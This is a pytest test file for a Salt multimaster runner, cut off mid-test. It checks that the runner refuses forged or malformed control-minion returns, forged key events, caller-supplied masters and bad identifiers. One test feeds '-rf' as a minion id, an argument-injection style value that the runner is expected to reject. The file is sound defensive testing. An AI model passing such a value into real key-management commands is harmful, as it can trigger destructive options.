"""
The runner never trusts what a control minion returns: a malformed or oversized return becomes a
clear per-master error (and retcode 1), never a TypeError, and nothing is applied on its word;
an answer not signed by the control minion's own key for this call (another minion answering
under its id first) is refused. The publish itself is replaced by canned returns, which the
control minions' keys sign as ``multimaster_peer`` would: only the runner's handling is under
test.
"""

import contextlib
import time

import multimaster_clustersync
import multimaster_control
import multimaster_daemon
import multimaster_keystore
import multimaster_keysync
import multimaster_pillarcheck
import multimaster_reactions
import multimaster_returns
import multimaster_seal
import multimaster_settle
import pytest
import salt.client
import salt.utils.event
import salt.utils.minions

from tests.support.keyfactory import priv_pem, pub_pem, rsa_private
from tests.support.loading import load_module

SECTION = {
    "mode": "hot",
    "ports": {"publish": 4505, "ret": 4506},
    "masters": [
        {"id": "m1", "host": "10.0.0.1", "minion_id": "cm1"},
        {"id": "m2", "host": "10.0.0.2", "minion_id": "cm2"},
    ],
}
GOOD_DIGESTS = {
    "alive": True,
    "digest": "0" * 64,
    "buckets": {},
    "count": 0,
    "repair": False,
    "binding": {"challenge": "c" * 64, "target": "m1", "config_dir": "/etc/salt"},
}


class FakeClient:
    def __init__(self, returns):
        self.returns = returns
        self.calls = []
        self.published = []

    def cmd(self, tgt, fun, **kwargs):
        self.calls.append(fun)
        return {minion: {"ret": ret, "retcode": 0} for minion, ret in self.returns.items()}

    def cmd_async(self, tgt, fun, arg=(), tgt_type="glob", kwarg=None, **kwargs):
        """A publish nobody waits for: recorded, answered with a jid."""
        self.published.append((tgt, fun, arg, tgt_type, kwarg))
        return "20250101000000000001"


@pytest.fixture(scope="module")
def runner():
    """
    Loaded once; the loader mock gives it fresh dunders for each test.
    """
    return load_module("multimaster_runner_returns", "_runners/multimaster.py")


@pytest.fixture
def configure_loader_modules(runner, tmp_path):
    """
    What Salt's loader would inject; pytest-salt-factories patches it in and restores it.
    """
    return {
        runner: {
            "__opts__": {
                "multimaster": SECTION,
                "conf_file": "/etc/salt/master",
                "cachedir": str(tmp_path / "cache"),
                "minimum_auth_version": 3,
            },
            "__context__": {},
        }
    }


# Each control minion's own key (its minion.pem); the runner finds the public half accepted on
# its master (``_primary_key_entry``).
CONTROL_KEYS = {m: rsa_private(tag=50 + n) for n, m in enumerate(("cm1", "cm2", "cfresh"))}
MASTER_OF = {"cm1": "m1", "cm2": "m2", "cfresh": "fresh"}
REAL_CMD_RETURNS = multimaster_returns.cmd_returns


def signed(answer, fun, nonce, minion, master=None, key=None):
    """
    ``answer`` as ``minion``'s ``multimaster_peer.<fun>`` returns it for ``nonce``: signed with
    its key (or ``key``), for its master (or ``master``).
    """
    return multimaster_seal.sign_answer(
        answer,
        fun.rpartition(".")[2],
        master or MASTER_OF[minion],
        nonce,
        priv_pem(key or CONTROL_KEYS[minion]),
    )


def signed_failure(text):
    """
    ``(fun, nonce) -> answer``: cm2 reporting the failure ``text``, signed for the call.
    """

    def failure(fun, nonce):
        return multimaster_seal.sign_answer(
            text, fun.rpartition(".")[2], "m2", nonce, priv_pem(CONTROL_KEYS["cm2"]), failed=True
        )

    return failure


class Forged:
    """
    A return another minion sent under a control minion's id (Salt 3008 takes a return's id
    from the load's unchecked ``resource_id``): ``ret``, or ``ret(fun, nonce)`` for one made
    for the call, passed on as it is.
    """

    def __init__(self, ret):
        self.ret = ret

    def made(self, fun, nonce):
        return self.ret(fun, nonce) if callable(self.ret) else self.ret


def answered(ret, minion, fun, nonce):
    """
    What reaches the runner for ``ret``, the canned answer of ``minion``: a forgery as it is,
    anything else signed by the control minion for this call.
    """
    if isinstance(ret, Forged):
        return ret.made(fun, nonce)
    return signed(ret, fun, nonce, minion)


@pytest.fixture(autouse=True)
def publish_through_cmd(runner, monkeypatch):
    """
    The fake clients below answer ``cmd`` (without the runner's nonce): the runner's return
    collector goes through it, and the control minions sign what they answer.
    """

    def cmd_returns(client, minions, fun, kwarg=None, timeout=None, find_job_timeout=None):
        kwarg = dict(kwarg or {})
        nonce = kwarg.pop("answer_nonce")
        returns = client.cmd(
            list(minions), fun, kwarg=kwarg, tgt_type="list", timeout=timeout, full_return=True
        )
        for minion, ret in returns.items():
            if isinstance(ret, dict) and "ret" in ret:
                ret["ret"] = answered(ret["ret"], minion, fun, nonce)
        return returns

    monkeypatch.setattr(multimaster_returns, "cmd_returns", cmd_returns)


@pytest.fixture(autouse=True)
def control_keys(runner, monkeypatch):
    """
    The control minions' keys are accepted on the runner's master; no other id is.
    """

    def entry(minion_id):
        key = CONTROL_KEYS.get(minion_id)
        return ("accepted", pub_pem(key), False) if key else (None, None, False)

    monkeypatch.setattr(
        multimaster_control, "primary_key_entry", lambda run, minion_id: entry(minion_id)
    )


@pytest.fixture(autouse=True)
def settled(runner, monkeypatch, request):
    """
    Every master settled: the runners' wait for pending restarts is its own tests' subject.
    """
    if "restarting" not in request.fixturenames:
        monkeypatch.setattr(multimaster_control, "await_restarts", lambda *a: None)


@pytest.fixture
def restarting(runner, monkeypatch):
    """
    ``restarting(answers)``: ``master_settled`` answers each poll with the next of ``answers``
    (a dict of control minion -> answer, or an exception to raise); anything else answers
    with an empty inventory. Returns the list of functions published.
    """
    calls = []
    monkeypatch.setattr(time, "sleep", lambda seconds: None)

    def restarting(answers):
        polls = iter(answers)

        class Client:
            def cmd(self, tgt, fun, kwarg=None, **_):
                calls.append(fun)
                if fun != "multimaster_peer.master_settled":
                    return {m: {"ret": dict(GOOD_DIGESTS), "retcode": 0} for m in tgt}
                answer = next(polls)
                if isinstance(answer, Exception):
                    raise answer
                return {m: {"ret": ret, "retcode": 0} for m, ret in answer.items()}

        monkeypatch.setattr(
            salt.client, "get_local_client", lambda *a, **k: contextlib.nullcontext(Client())
        )
        return calls

    return restarting


SETTLED = {"up": True, "restart_pending": False, "settled": True}
PENDING = {"up": True, "restart_pending": True, "settled": False}


def test_a_runner_waits_for_a_pending_restart_before_it_acts(runner, restarting):
    """
    Run right after ``multimaster.master``, a runner meets this master restarting and then a
    peer whose restart is pending: it waits for both, then acts.
    """
    from salt.exceptions import SaltClientError

    calls = restarting(
        [
            SaltClientError("no master"),
            {"cm1": SETTLED, "cm2": PENDING},
            {"cm1": SETTLED, "cm2": SETTLED},
        ]
    )
    ret = runner.sync_keys(test=True)
    assert calls[:3] == ["multimaster_peer.master_settled"] * 3
    assert "multimaster_peer.key_inventory" in calls[3:], calls
    assert ret["retcode"] == 0, ret


def test_a_restart_that_stays_pending_is_refused_naming_master_and_command(
    runner, restarting, monkeypatch
):
    """
    ``sync_roots`` asks for the manifests first (no settle round while nothing restarts); an
    answer it cannot use sends it to wait, and a restart still pending then is refused with
    nothing applied.
    """
    calls = restarting([{"cm1": SETTLED, "cm2": PENDING}] * 3)
    monkeypatch.setattr(multimaster_control, "SETTLE_TIMEOUT", -1)
    ret = runner.sync_roots()
    assert ret["retcode"] == 1, ret
    assert "restart of m2 is still pending" in ret["comment"], ret
    assert "salt-run multimaster.wait_masters" in ret["comment"], ret
    assert calls[0] == "multimaster_peer.roots_manifest", calls
    assert set(calls[1:]) == {"multimaster_peer.master_settled"}, calls


def test_a_master_that_is_down_is_not_waited_for(runner, restarting):
    """
    A stopped master (no restart pending) is the run's to report, not a reason to wait.
    """
    calls = restarting([{"cm1": SETTLED, "cm2": {"up": False, "restart_pending": False}}])
    runner.sync_keys(test=True)
    assert calls.count("multimaster_peer.master_settled") == 1, calls


@pytest.fixture
def use(runner, monkeypatch):
    """
    ``use(returns)``: the runner's publish answers with ``returns``; the fake client is returned.
    """

    def use(returns):
        client = FakeClient(returns)
        monkeypatch.setattr(
            salt.client, "get_local_client", lambda *a, **k: contextlib.nullcontext(client)
        )
        return client

    return use


@pytest.mark.parametrize(
    "bad",
    [
        "not a dict",
        ["a", "list"],
        {"alive": True, "digest": 5},
        {"alive": True, "digest": "0" * 64, "buckets": {"x": "y"}, "count": 1, "repair": False},
        dict(GOOD_DIGESTS, buckets={str(i): "0" * 16 for i in range(5000)}),
    ],
    ids=["string", "list", "digest-not-a-string", "bucket-not-a-number", "too-many-buckets"],
)
def test_malformed_inventory_is_a_per_master_error(runner, use, bad):
    client = use({"cm1": GOOD_DIGESTS, "cm2": bad})
    ret = runner.sync_keys()
    assert ret["retcode"] == 1 and runner.__context__["retcode"] == 1
    assert ret["masters"]["m2"]["result"] is False, ret
    assert isinstance(ret["masters"]["m2"]["error"], str) and ret["masters"]["m2"]["error"]
    assert "multimaster_peer.apply_key_actions" not in client.calls


def test_malformed_status_report_is_a_per_master_error(runner, use):
    use({"cm1": {"keys": GOOD_DIGESTS, "master_key": {}}, "cm2": {"keys": {}}})
    ret = runner.status()
    assert ret["retcode"] == 1
    assert ret["masters"]["m1"]["reachable"] is False or ret["masters"]["m2"]["reachable"] is False


@pytest.mark.parametrize("fun", ["sync_keys", "sync_master_key", "sync_roots", "status"])
def test_a_master_that_takes_unsigned_minion_ids_is_refused_before_any_publish(
    runner, use, monkeypatch, fun
):
    # There any minion could answer, or pull a ticket, as a control minion.
    client = use({"cm1": GOOD_DIGESTS, "cm2": GOOD_DIGESTS})
    monkeypatch.setitem(runner.__opts__, "minimum_auth_version", 2)
    ret = getattr(runner, fun)()
    assert ret["retcode"] == 1 and "minimum_auth_version 2, expected 3" in ret["comment"]
    assert client.calls == []


@pytest.mark.parametrize(
    "fun, args",
    [("sync_keys", ()), ("accept", ("web1",)), ("sync_master_key", ()), ("sync_roots", ())],
)
def test_transfers_are_refused_in_mode_cluster_before_any_publish(
    runner, use, monkeypatch, fun, args
):
    # Behind the balancer a control minion's pull reaches whichever master HAProxy picks.
    client = use({"cm1": GOOD_DIGESTS, "cm2": GOOD_DIGESTS})
    cluster = dict(
        SECTION,
        mode="cluster",
        masters=[{"id": "10.0.0.1", "host": "10.0.0.1"}, {"id": "10.0.0.2", "host": "10.0.0.2"}],
        cluster={"id": "c1", "balancer": "10.0.0.9", "secret": "s" * 40},
    )
    monkeypatch.setitem(runner.__opts__, "multimaster", cluster)
    ret = getattr(runner, fun)(*args)
    assert ret["retcode"] == 1 and f"{fun} is for hot and failover sets" in ret["comment"]
    assert client.calls == []


@pytest.mark.parametrize(
    "fun, says",
    [("share_peer_keys", "peer keys exist"), ("share_cluster_aes", "the cluster AES key exists")],
)
def test_cluster_key_sharing_is_refused_outside_mode_cluster_before_any_publish(
    runner, use, fun, says
):
    client = use({"cm1": GOOD_DIGESTS, "cm2": GOOD_DIGESTS})
    ret = getattr(runner, fun)()
    assert ret["retcode"] == 1, ret
    assert f"mode is 'hot': {says} in mode cluster only" in ret["comment"], ret
    assert client.calls == []


# A fresh peer named first, the real primary second: taken as given, the fresh peer would be the
# authority and prune would delete every key accepted on the real primary.
FRESH_FIRST = [
    {"id": "fresh", "host": "10.0.0.9", "minion_id": "cfresh"},
    {"id": "m1", "host": "10.0.0.1", "minion_id": "cm1"},
]


@pytest.mark.parametrize(
    "fun, args, kwargs",
    [
        ("sync_master_key", (), {}),
        ("sync_keys", (), {"prune": True, "force": True}),
        ("accept", ("web1",), {}),
        ("reject", ("web1",), {}),
        ("delete", ("web1",), {}),
        ("status", (), {}),
    ],
)
def test_masters_from_arguments_are_refused_before_any_publish(runner, use, fun, args, kwargs):
    # A runner ACL that allows one function must not let its caller choose the primary.
    client = use({"cm1": GOOD_DIGESTS, "cm2": GOOD_DIGESTS, "cfresh": GOOD_DIGESTS})
    ret = getattr(runner, fun)(*args, masters=FRESH_FIRST, **kwargs)
    assert ret["retcode"] == 1 and runner.__context__["retcode"] == 1
    assert f"masters= is not accepted by {fun}" in ret["comment"], ret
    assert "'fresh'" in ret["comment"] and "multimaster:masters" in ret["comment"], ret
    assert client.calls == []


def report(roots, git=None):
    """
    A well-formed ``master_report`` answer with the given roots and served commits.
    """
    return {
        "keys": {k: v for k, v in GOOD_DIGESTS.items() if k != "binding"},
        "master_key": {"pub": None},
        "answering": [],
        "roots": roots,
        "git": git or {},
    }


def one_root(digest):
    return {"file_roots": {"base": [{"path": "/srv/salt", "digest": digest, "count": 1}]}}


def test_status_reports_each_root_digest_per_master(runner, use):
    use({"cm1": report(one_root("a" * 64)), "cm2": report(one_root("a" * 64))})
    ret = runner.status()
    assert ret["roots_equal"] is True and "roots_differ" not in ret, ret
    assert ret["roots"]["file_roots"]["base"][0] == {
        "m1": "aaaaaaaaaaaaaaaa /srv/salt",
        "m2": "aaaaaaaaaaaaaaaa /srv/salt",
    }


def test_status_differing_roots_fail_and_name_the_root(runner, use):
    """
    Digests differ: retcode 1 and the root is named; the path comparison needs sealed manifests,
    which these canned answers lack, so each master gets an error there rather than a guess.
    """
    use({"cm1": report(one_root("a" * 64)), "cm2": report(one_root("b" * 64))})
    ret = runner.status()
    assert ret["retcode"] == 1 and ret["roots_equal"] is False, ret
    assert list(ret["roots_differ"]) == ["file_roots base 0"]
    assert isinstance(ret["roots_differ"]["file_roots base 0"]["m2"], str)


@pytest.mark.parametrize("answers", [["cm1"], []], ids=["one-of-two", "none"])
def test_status_claims_nothing_equal_when_a_master_does_not_answer(runner, use, answers):
    """
    A master that does not answer leaves equality unknown (``None``), not ``True`` made of the
    masters that did answer: the keys, the master key and the roots alike; exit 1.
    """
    served = {"gitfs": {"https://git.example/formulas.git": {"main": "1" * 40}}}
    use({cm: report(one_root("a" * 64), served) for cm in answers})
    ret = runner.status()
    assert ret["retcode"] == 1 and ret["masters"]["m2"]["reachable"] is False, ret
    assert ret["keys_equal"] is None and ret["same_master_key"] is None, ret
    assert ret.get("roots_equal") is None and "keys_differ" not in ret, ret
    if answers:
        assert ret["roots_equal"] is None and ret["git_equal"] is None, ret
    else:
        assert "roots_equal" not in ret and "git_equal" not in ret, ret


def test_status_compares_the_commits_served_per_git_remote(runner, use):
    url = "https://git.example/formulas.git"
    one = {"gitfs": {url: {"main": "1" * 40}}}
    two = {"gitfs": {url: {"main": "2" * 40}}}
    use({"cm1": report({}, one), "cm2": report({}, one)})
    ret = runner.status()
    assert ret["git_equal"] is True and ret["git"] == {f"gitfs {url}": "same commits"}, ret

    use({"cm1": report({}, one), "cm2": report({}, two)})
    ret = runner.status()
    assert ret["retcode"] == 1 and ret["git_equal"] is False, ret
    assert ret["git"][f"gitfs {url}"] == {"m1": {"main": "1" * 12}, "m2": {"main": "2" * 12}}


@pytest.mark.parametrize(
    ("roots", "git"),
    [
        ({"file_roots": ["not", "a", "mapping"]}, {}),
        ({"file_roots": {"base": [{"path": 1, "digest": "d"}]}}, {}),
        ({}, {"gitfs": {"https://x": {"main": 12345}}}),
        ({}, {"gitfs": ["https://x"]}),
    ],
)
def test_malformed_roots_or_commits_are_a_per_master_error(runner, use, roots, git):
    use({"cm1": report(one_root("a" * 64)), "cm2": report(roots, git)})
    ret = runner.status()
    assert ret["retcode"] == 1
    assert (
        ret["masters"]["m2"]["reachable"] is False and "malformed" in ret["masters"]["m2"]["error"]
    )


HELD_PEM = "-----BEGIN PUBLIC KEY-----\nheld\n-----END PUBLIC KEY-----\n"


@pytest.fixture
def store(runner, monkeypatch):
    """
    ``store(entry)``: this master (m2) holds ``entry`` for the event's id (None: no key).
    """
    monkeypatch.setitem(runner.__opts__, "id", "m2")

    def store(entry):
        held = {} if entry is None else {"web1": entry}
        pubs = {} if entry is None else {"web1": {"key": HELD_PEM}}
        monkeypatch.setattr(multimaster_keystore, "inventory", lambda *a, **k: (held, pubs))

    return store


@pytest.mark.parametrize(
    "act, entry",
    [
        ("delete", ["accepted", "ab:cd"]),
        ("accept", ["pending", "ab:cd"]),
        ("accept", None),
        ("reject", ["accepted", "ab:cd"]),
        ("reject", None),
    ],
    ids=[
        "delete-still-accepted",
        "accept-still-pending",
        "accept-unknown",
        "reject-accepted",
        "reject-unknown",
    ],
)
def test_key_event_the_store_does_not_show_changes_nothing(runner, use, store, act, entry):
    """
    A ``salt/key`` event can be forged by any minion: when this master's own store does not
    show what the act leaves, nothing is published and nothing changes.
    """
    client = use({})
    store(entry)
    ret = runner.key_event("web1", act)
    assert ret["retcode"] == 0 and "nothing changed" in ret["comment"], ret
    assert client.calls == []


@pytest.mark.parametrize(
    "minion, act, says",
    [
        ("web1", "pend", "act 'pend'"),
        ("-rf", "delete", "'-rf'"),
        ("web*", "accept", "'web*'"),
        ("web1", "accepted", "act 'accepted'"),
    ],
)
def test_key_event_refuses_bad_input(runner, use, store, minion, act, says):
    client = use({})
    store(["accepted", "ab:cd"])
    ret = runner.key_event(minion, act)
    assert ret["retcode"] == 1 and says in ret["comment"], ret
    assert client.calls == []


def test_key_event_on_a_master_outside_the_set_is_refused(runner, use, store, monkeypatch):
    client = use({})
    store(["accepted", "ab:cd"])
    monkeypatch.setitem(runner.__opts__, "id", "stranger")
    ret = runner.key_event("web1", "accept")
    assert ret["retcode"] == 1 and "'stranger' is not in multimaster:masters" in ret["comment"]
    assert client.calls == []


def test_key_event_on_a_master_salt_named_after_its_host_acts(runner, use, store, monkeypatch):
    """
    A master whose config sets no ``id`` is ``<hostname>_master`` to Salt: entry ``m2``.
    """
    client = use({})
    store(["accepted", "ab:cd"])
    monkeypatch.setitem(runner.__opts__, "id", "m2_master")
    ret = runner.key_event("web1", "accept")
    assert "is not in multimaster:masters" not in str(ret.get("comment")), ret
    assert "multimaster_peer.key_inventory" in client.calls


def test_key_event_accept_propagates_the_key_this_master_holds(runner, use, store):
    """
    The accepted key's fingerprint is what the plan is checked against: another master holding
    a different key for the id is a conflict and nothing is applied.
    """
    fp_here, fp_other = "aa:" * 31 + "aa", "bb:" * 31 + "bb"
    entries = {"m1": {"web1": ["pending", fp_other]}, "m2": {"web1": ["accepted", fp_here]}}
    client = use(
        {
            "cm1": {**GOOD_DIGESTS, "entries": entries["m1"], "pubs": {}},
            "cm2": {**GOOD_DIGESTS, "entries": entries["m2"], "pubs": {}},
        }
    )
    store(["accepted", fp_here])
    ret = runner.key_event("web1", "accept")
    assert ret["retcode"] == 1, ret
    assert fp_other in str(ret) and fp_here in str(ret)
    assert "multimaster_peer.apply_key_actions" not in client.calls


@pytest.fixture
def propagations(runner, monkeypatch):
    """
    The propagations ``key_event`` starts (its ``multimaster_keysync.one_id`` calls), each
    answered as a clean run.
    """
    calls = []

    def one_id(run, op, minion_id, fingerprint, test, masters, timeout, force=False, **options):
        assert options.pop("settle") is False, "a reactor never waits on a restart"
        calls.append((op, minion_id, fingerprint, options))
        return {"masters": {}, "retcode": 0}

    monkeypatch.setattr(multimaster_keysync, "one_id", one_id)
    return calls


@pytest.fixture
def held_before(runner, monkeypatch):
    """
    ``held_before(fp)``: this master's store held the event's id with the key ``fp`` before
    (None: it never held it, as far as its record goes).
    """

    def held_before(fp):
        monkeypatch.setattr(multimaster_keystore, "held_before", lambda *a, **k: fp, raising=False)

    return held_before


def test_key_event_delete_of_an_id_this_master_never_held_changes_nothing(
    runner, use, store, held_before
):
    """
    A forged delete for an id this master does not hold matched its store ("no key") before:
    it deleted the id's pending, rejected and denied keys on every other master.
    """
    client = use({})
    store(None)
    held_before(None)
    ret = runner.key_event("web1", "delete")
    assert ret["retcode"] == 0 and "nothing changed" in ret["comment"], ret
    assert "multimaster.delete web1" in ret["comment"]
    assert client.calls == []


def test_key_event_delete_of_an_id_held_here_before_keeps_revocations_elsewhere(
    runner, store, held_before, propagations
):
    store(None)
    held_before(FP)
    assert runner.key_event("web1", "delete")["retcode"] == 0
    assert propagations == [("delete", "web1", FP, {"keep_revocations": True})]


def test_key_event_repeats_of_one_change_propagate_once(runner, store, held_before, propagations):
    """
    A flood of events for a change the store shows costs one propagation per window; another
    change of the same id is not a repeat.
    """
    store(["accepted", FP])
    rets = [runner.key_event("web1", "accept") for _ in range(10)]
    assert [p[:3] for p in propagations] == [("accept", "web1", FP)]
    assert all(r["retcode"] == 0 and "nothing to do" in r["comment"] for r in rets[1:]), rets[1]
    store(["rejected", FP])
    runner.key_event("web1", "reject")
    runner.key_event("web1", "reject")
    store(None)
    held_before(FP)
    runner.key_event("web1", "delete")
    runner.key_event("web1", "delete")
    assert [p[0] for p in propagations] == ["accept", "reject", "delete"]


@pytest.fixture
def cluster_bus(runner, monkeypatch):
    """
    This master is a cluster member; the events ``key_event`` fires on its bus are recorded.
    """
    monkeypatch.setitem(runner.__opts__, "cluster_id", "c1")
    monkeypatch.setitem(runner.__opts__, "sock_dir", "/run/salt/master")
    fired = []

    class Bus:
        def fire_event(self, data, tag):
            fired.append((tag, data))
            return True

    monkeypatch.setattr(
        salt.utils.event,
        "get_master_event",
        lambda *a, **k: contextlib.nullcontext(Bus()),
    )
    return fired


@pytest.mark.parametrize(
    "act, entry, replayed",
    [("reject", ["rejected", "ab:cd"], "reject"), ("accept", ["accepted", "ab:cd"], "accept")],
)
def test_key_event_in_a_cluster_replays_the_held_key_under_the_act_salt_applies(
    runner, use, store, cluster_bus, act, entry, replayed
):
    """
    Salt's cluster peers apply ``reject``/``accept`` but salt-key says ``rejected``/``accepted``:
    the change is re-fired once, with the key this master holds and the mark that keeps the
    reactor from reacting to it again. No control minion is called.
    """
    client = use({})
    store(entry)
    ret = runner.key_event("web1", act)
    assert ret["retcode"] == 0, ret
    assert cluster_bus == [
        (
            "salt/key",
            {
                "act": replayed,
                "id": "web1",
                "pub": HELD_PEM,
                "result": True,
                "multimaster_replayed": "m2",
            },
        )
    ]
    assert client.calls == []


@pytest.mark.parametrize(
    "act, entry",
    [("delete", None), ("reject", ["accepted", "ab:cd"]), ("accept", None)],
    ids=["delete-salt-replicates-it", "reject-not-in-store", "accept-not-in-store"],
)
def test_key_event_in_a_cluster_fires_nothing_salt_replicates_or_the_store_does_not_show(
    runner, use, store, cluster_bus, act, entry
):
    client = use({})
    store(entry)
    ret = runner.key_event("web1", act)
    assert ret["retcode"] == 0, ret
    assert cluster_bus == [] and client.calls == []


def test_key_event_in_a_cluster_without_a_readable_key_replays_nothing_and_fails(
    runner, use, store, cluster_bus, monkeypatch
):
    """A held file that is not one public key PEM is never sent to the peers."""
    use({})
    held = {"web1": ["rejected", None]}
    monkeypatch.setattr(multimaster_keystore, "inventory", lambda *a, **k: (held, {}))
    ret = runner.key_event("web1", "reject")
    assert ret["retcode"] == 1 and "not a valid public key" in ret["comment"], ret
    assert cluster_bus == []


@pytest.mark.parametrize("refusals, retcode", [(2, 0), (5, 1)])
def test_key_event_in_a_cluster_retries_a_bus_that_refuses_the_replay(
    runner, use, store, monkeypatch, refusals, retcode
):
    """
    A bus that refuses (or closes mid AES rotation) is tried again on a fresh connection: the
    replay is fired once it is taken, and fails with retcode 1 when it never is.
    """
    monkeypatch.setitem(runner.__opts__, "cluster_id", "c1")
    monkeypatch.setitem(runner.__opts__, "sock_dir", "/run/salt/master")
    monkeypatch.setattr(multimaster_reactions, "REPLAY_INTERVAL", 0)
    attempts, fired = [], []

    class Bus:
        def fire_event(self, data, tag):
            attempts.append(tag)
            if len(attempts) <= refusals:
                if len(attempts) % 2:
                    raise OSError("stream closed")
                return False
            fired.append((tag, data["act"]))
            return True

    monkeypatch.setattr(
        salt.utils.event, "get_master_event", lambda *a, **k: contextlib.nullcontext(Bus())
    )
    use({})
    store(["rejected", "ab:cd"])
    ret = runner.key_event("web1", "reject")
    assert ret["retcode"] == retcode, ret
    assert fired == ([("salt/key", "reject")] if retcode == 0 else [])
    assert len(attempts) == min(refusals + 1, multimaster_reactions.REPLAY_ATTEMPTS)


# --- first highstate --------------------------------------------------------------------------

FP = "ab:" * 31 + "ab"
# The custom modules synced, then multimaster.first_highstate, in one job of one function.
FIRST_HIGHSTATE_JOB = (
    ["web1"],
    "state.sls",
    ["multimaster.minion.first_highstate"],
    "list",
    {"sync_mods": "all", "queue": True},
)


def test_first_highstate_publishes_without_waiting_on_the_minion(runner, use, store):
    """
    A minion that holds its jobs (or answers ``saltutil.find_job`` for ever) must not hold a
    reactor worker: one publish of the sync and the claim, in that order, and no wait.
    """
    client = use({})
    store(["accepted", FP])
    ret = runner.first_highstate("web1")
    assert ret["retcode"] == 0 and ret["jid"] and ret["minion"] == "web1", ret
    assert client.published == [FIRST_HIGHSTATE_JOB]
    assert client.calls == []


@pytest.mark.parametrize(
    "entry", [None, ["pending", FP], ["rejected", FP]], ids=["unknown", "pending", "rejected"]
)
def test_first_highstate_for_an_id_not_accepted_here_publishes_nothing(runner, use, store, entry):
    """
    The start event's id is whatever its sender put there: a minion that really started on this
    master is accepted in this master's store, anything else is not reacted to.
    """
    client = use({})
    store(entry)
    ret = runner.first_highstate("web1")
    assert ret["retcode"] == 0 and "nothing done" in ret["comment"], ret
    assert client.published == [] and client.calls == []


def test_first_highstate_repeats_of_a_start_publish_once(runner, use, store):
    """
    A flood of start events for one id costs one publish per window; another key for the id (a
    new minion under an old name) is not a repeat.
    """
    client = use({})
    store(["accepted", FP])
    rets = [runner.first_highstate("web1") for _ in range(20)]
    assert len(client.published) == 1
    assert all(r["retcode"] == 0 and "nothing done" in r["comment"] for r in rets[1:]), rets[1]
    store(["accepted", "cd:" * 31 + "cd"])
    runner.first_highstate("web1")
    assert len(client.published) == 2


def test_first_highstate_whose_publish_fails_is_tried_again_on_the_next_start(
    runner, use, store, monkeypatch
):
    client = use({})
    store(["accepted", FP])
    publish = client.cmd_async

    def refused_once(*args, **kwargs):
        monkeypatch.setattr(client, "cmd_async", publish)
        raise multimaster_reactions.SaltClientError(
            "Salt request timed out. The master is not responding."
        )

    monkeypatch.setattr(client, "cmd_async", refused_once)
    ret = runner.first_highstate("web1")
    assert ret["retcode"] == 1 and "web1" in ret["error"] and "timed out" in ret["error"], ret
    assert runner.first_highstate("web1")["retcode"] == 0
    assert client.published == [FIRST_HIGHSTATE_JOB]


def test_first_highstate_refuses_a_bad_id_before_reading_anything(runner, use, store):
    client = use({})
    store(["accepted", FP])
    ret = runner.first_highstate("web*")
    assert ret["retcode"] == 1 and "'web*'" in ret["comment"], ret
    assert client.published == [] and client.calls == []


def test_wait_masters_reports_the_masters_that_never_settled(runner, use):
    use({"cm1": {"up": True, "restart_pending": False, "settled": True}, "cm2": {"up": False}})
    ret = runner.wait_masters(timeout=0, interval=0)
    assert ret["retcode"] == 1 and "not settled" in ret["comment"], ret
    assert list(ret["masters"]) == ["m2"], ret


def test_wait_masters_returns_once_every_master_settled(runner, use):
    client = use(
        {m: {"up": True, "restart_pending": False, "settled": True} for m in ("cm1", "cm2")}
    )
    ret = runner.wait_masters(timeout=5, interval=0)
    assert ret["retcode"] == 0 and ret["comment"] == "every master is up", ret
    assert client.calls == ["multimaster_peer.master_settled"]


def test_wait_masters_leaves_out_a_skipped_master(runner, use):
    # m2's control minion (the master being removed) no longer answers for a master
    use({"cm1": {"up": True, "restart_pending": False, "settled": True}, "cm2": "not a master"})
    assert runner.wait_masters(timeout=0, interval=0)["retcode"] == 1
    ret = runner.wait_masters(timeout=0, interval=0, skip="m2,gone-already")
    assert ret["retcode"] == 0 and ret["comment"] == "every master is up", ret


def test_wait_masters_refuses_a_skip_that_is_not_ids(runner, use):
    use({})
    ret = runner.wait_masters(timeout=0, interval=0, skip={"m2": 1})
    assert ret["retcode"] == 1 and "skip: got {'m2': 1}" in ret["comment"], ret


@pytest.fixture
def own_store(runner, monkeypatch, tmp_path):
    """
    The runner runs on master m1, whose store holds ``web`` accepted: ``(pem, bucket)``.
    """
    import multimaster_keys  # on sys.path once the runner is loaded

    from tests.support.keyfactory import pub_pem, rsa_private

    pki = tmp_path / "pki"
    (pki / "minions").mkdir(parents=True)
    pem = multimaster_keys.canonical(pub_pem(rsa_private(tag=41)))
    (pki / "minions" / "web").write_text(pem)
    monkeypatch.setitem(runner.__opts__, "id", "m1")
    monkeypatch.setitem(runner.__opts__, "pki_dir", str(pki))
    return pem, multimaster_keys.bucket_of("web")


def recording_client(runner, monkeypatch, digests, entries):
    """
    The publish answers key_inventory with ``digests`` (no kwarg) or ``entries``; returns the
    list of ``(targets, kwarg)`` it was called with.
    """
    calls = []

    class Client:
        def cmd(self, tgt, fun, kwarg=None, **_):
            calls.append((sorted(tgt), kwarg))
            answers = entries if kwarg else digests
            return {m: {"ret": answers[m], "retcode": 0} for m in tgt}

    monkeypatch.setattr(
        salt.client, "get_local_client", lambda *a, **k: contextlib.nullcontext(Client())
    )
    return calls


M2_BINDING = dict(GOOD_DIGESTS["binding"], target="m2")


def test_the_runners_own_master_is_read_here_not_returned_by_its_control_minion(
    runner, monkeypatch, own_store
):
    """
    On the master the runner runs on (its id is in the set), that master's keys come from its
    own store in this process: only the other masters' control minions return entries (the
    primary's 10,000-key return was megabytes through the job return path).
    """
    import multimaster_keys

    pem, bucket = own_store
    fp = multimaster_keys.fingerprint(pem)
    digests = {
        "cm1": dict(GOOD_DIGESTS, digest="1" * 64, buckets={bucket: "1" * 16}, count=1),
        "cm2": dict(GOOD_DIGESTS, digest="2" * 64, buckets={bucket: "2" * 16}, binding=M2_BINDING),
    }
    entries = {"cm2": {"alive": True, "entries": {"web": ["pending", fp]}, "pubs": {}}}
    entries["cm2"]["binding"] = M2_BINDING
    calls = recording_client(runner, monkeypatch, digests, entries)
    ret = runner.sync_keys(test=True)
    # Entries without keys: the key the plan copies is this master's own.
    assert calls == [(["cm1", "cm2"], {}), (["cm2"], {"buckets": [bucket], "with_pubs": False})]
    assert ret["masters"]["m2"]["planned"] == [{"id": "web", "op": "accept", "fp": fp}]
    assert ret["retcode"] == 0


def test_an_own_store_over_the_bound_is_refused_by_name_not_a_traceback(
    runner, monkeypatch, own_store
):
    """
    The runner's own store is checked like a peer's answer; one over the bound on ids is a
    refusal naming the store and the bound, with nothing applied.
    """
    import multimaster_keys

    _, bucket = own_store
    monkeypatch.setattr(multimaster_keys, "MAX_ENTRIES", 0)
    digests = {
        "cm1": dict(GOOD_DIGESTS, digest="1" * 64, buckets={bucket: "1" * 16}, count=1),
